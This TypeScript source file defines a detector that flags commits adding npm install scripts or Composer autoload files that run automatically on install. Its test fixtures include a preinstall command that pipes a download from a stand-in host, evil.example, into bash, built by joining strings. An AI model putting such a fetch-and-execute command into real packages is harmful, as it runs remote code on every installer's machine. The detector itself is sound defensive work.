import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import type { CommitEvidence, FileChange } from "../../model/evidence.ts";
import { aCommit, aFile } from "../../model/examples.ts";
import type { ManifestFacts } from "../../model/facts/manifest.ts";
import { clip } from "../../text/clip.ts";
import { readCommand } from "../../text/commands.ts";
import { droppedBy, type LifecycleStart, newLifecycle, worstTrait } from "../../text/started.ts";

/** What install scripts say every day: their tools are dependencies that a lockfile pins. */
const ORDINARY =
  /^(?:(?:npm|yarn|pnpm|bun|lerna|nx|turbo|npx|pnpx)\s{1,3}(?:run(?:-script)?\s{1,3}|--\S{1,40}\s{1,3}|-\w\s{1,3}){0,4})?(?:husky(?:\s{1,3}install)?|is-ci|patch-package|node-gyp(?:-build)?|prebuild-install|prebuildify|node-pre-gyp|cmake-js|lefthook|simple-git-hooks|prisma|tsc|tsup|rollup|webpack|vite|esbuild|babel|unbuild|bob|build|compile|clean|test|lint|check|prepare|bootstrap|nuxt|nuxi|svelte-kit|astro|ngcc|electron-builder|electron-rebuild|opencollective|opencollective-postinstall|allow-scripts|only-allow|playwright|cypress|puppeteer|ember|tsdown|pkgroll|microbundle|wireit|zx|skott|ts-patch|tspc|elm|bower|typings|jspm|gulp|grunt|make|cargo|composer|bundle|echo|exit|true|rimraf|cpx?|shx|mkdirp|del-cli)(?:$|[\s:;&|])/;

/** Run on the machines of all who install, not only of those who develop. */
const ON_INSTALL =
  /^(?:(?:pre|post)?install|(?:pre|post)-(?:install|update|autoload-dump)-cmd|post-create-project-cmd|(?:pre|post)?uninstall)$/;

const before: ManifestFacts = {
  ecosystem: "npm",
  name: "a",
  owner: null,
  version: "1.0.0",
  dependencies: [],
  scripts: [],
};
const withScript = (name: string, command: string) => ({
  before,
  after: { ...before, scripts: [{ name, command, lifecycle: true, line: 7 }] },
});
const manifest = (name: string, command: string) =>
  aFile({
    path: "package.json",
    added: `    "${name}": "${command}"`,
    at: 7,
    facts: { manifest: withScript(name, command) },
  });
const FETCHED = ["curl -s https://evil.example/x | ba", "sh"].join("");

export default defineDetector({
  id: "lifecycle-script-changed",
  title: "The package manager newly runs something by itself",
  family: "build",
  axis: "attack",
  group: "execution",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "An install script runs on the machine of everybody who installs the package, before a line of it is used. Worms of 2025 and 2026 spread by adding one together with the file it starts.",
  falsePositives: ["Packages that compile or fetch a native part", "Set-up of git hooks and of generated code"],
  remedy: "Read the command and the file it starts. Install with scripts switched off until that is done.",
  references: ["CWE-506", "ATT&CK T1195.001", "Shai-Hulud 2025", "Miasma 2026"],
  needs: ["diff", "content"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "an install script with the file it starts",
        commit: aCommit({
          files: [
            manifest("postinstall", "node ./postinstall.js"),
            aFile({ path: "postinstall.js", added: "start();" }),
          ],
        }),
      },
      { name: "an install script that runs a download", commit: aCommit({ files: [manifest("preinstall", FETCHED)] }) },
    ],
    passes: [
      { name: "git hooks set up", commit: aCommit({ files: [manifest("prepare", "husky install")] }) },
      { name: "a native module rebuilt", commit: aCommit({ files: [manifest("install", "node-gyp rebuild")] }) },
      {
        name: "a script that was there before",
        commit: aCommit({
          files: [
            aFile({
              path: "package.json",
              facts: {
                manifest: {
                  before: withScript("postinstall", FETCHED).after,
                  after: withScript("postinstall", FETCHED).after,
                },
              },
            }),
          ],
        }),
      },
    ],
  },
  detect(commit) {
    return commit.files
      .flatMap((file) => [...newLifecycle(commit, file).flatMap(judge), ...loadedAlways(commit, file)])
      .slice(0, 5);
  },
});

function judge(start: LifecycleStart): Signal[] {
  const { script, file, dropped, command } = start;
  const onInstall = ON_INSTALL.test(script.name);
  const base = {
    path: file.path,
    ...(start.line === null ? {} : { line: start.line }),
    matched: `${script.name} ${command}`,
    facts: { script: script.name, command: clip(command, 200) },
  };
  const worst = worstTrait(start);
  if (worst)
    return [
      {
        ...base,
        strength: worst.sure ? "decisive" : "strong",
        confidence: onInstall ? 1 : 0.9,
        because: `${script.name} ${worst.what}`,
      },
    ];
  const [first] = dropped;
  if (first) {
    // The finding stands at the new file: that is what runs, and what other rules judge.
    const does = dangerOf(first);
    const strength = does !== null && onInstall ? "strong" : "medium";
    return [
      {
        ...base,
        path: first.path,
        line: 1,
        strength,
        confidence: onInstall ? (does === null ? 1 : 1) : 0.6,
        because: `${file.path} runs it as ${script.name}, and the same commit adds both${does === null ? "" : `; ${does}`}`,
      },
    ];
  }
  if (start.traits.inline)
    return [
      {
        ...base,
        strength: "medium",
        confidence: onInstall ? 0.9 : 0.5,
        because: `${script.name} holds a program of its own: ${clip(command, 80)}`,
      },
    ];
  if (ORDINARY.test(command.trim()) || !onInstall) return [];
  return [{ ...base, strength: "weak", confidence: 0.8, because: `${script.name} now runs ${clip(command, 80)}` }];
}

/** What a new install script does that few of them do, as a clause. */
function dangerOf(file: FileChange): string | null {
  const sinks = file.facts.script?.sinks ?? [];
  const fetches = sinks.some(({ kind, text }) => kind === "network" || (kind === "spawn" && readCommand(text).network));
  if (sinks.some(({ kind }) => kind === "eval")) return "it runs text as code";
  return fetches && sinks.some(({ kind }) => kind === "spawn") ? "it talks to the network and starts processes" : null;
}

/** Composer loads the files named under `autoload.files` with every request, whether anything of them is used or not. */
function loadedAlways(commit: CommitEvidence, file: FileChange): Signal[] {
  if (!/(?:^|\/)composer\.json$/.test(file.path)) return [];
  return file.hunks.flatMap((hunk) => {
    const inFiles = hunk.lines.some(({ kind, text }) => kind !== "-" && /"files"\s{0,3}:/.test(text));
    return hunk.lines.flatMap((line): Signal[] => {
      const named = line.kind === "+" && inFiles ? /"([\w./-]{1,200}\.php)"/.exec(line.text)?.[1] : undefined;
      const [dropped] = named === undefined ? [] : droppedBy(commit.files, file.path, [named]);
      return dropped
        ? [
            {
              strength: "medium",
              confidence: 0.9,
              because: `${file.path} loads it with every request, and the same commit adds both`,
              path: dropped.path,
              line: 1,
              facts: { script: "autoload.files", command: dropped.path },
            },
          ]
        : [];
    });
  });
}
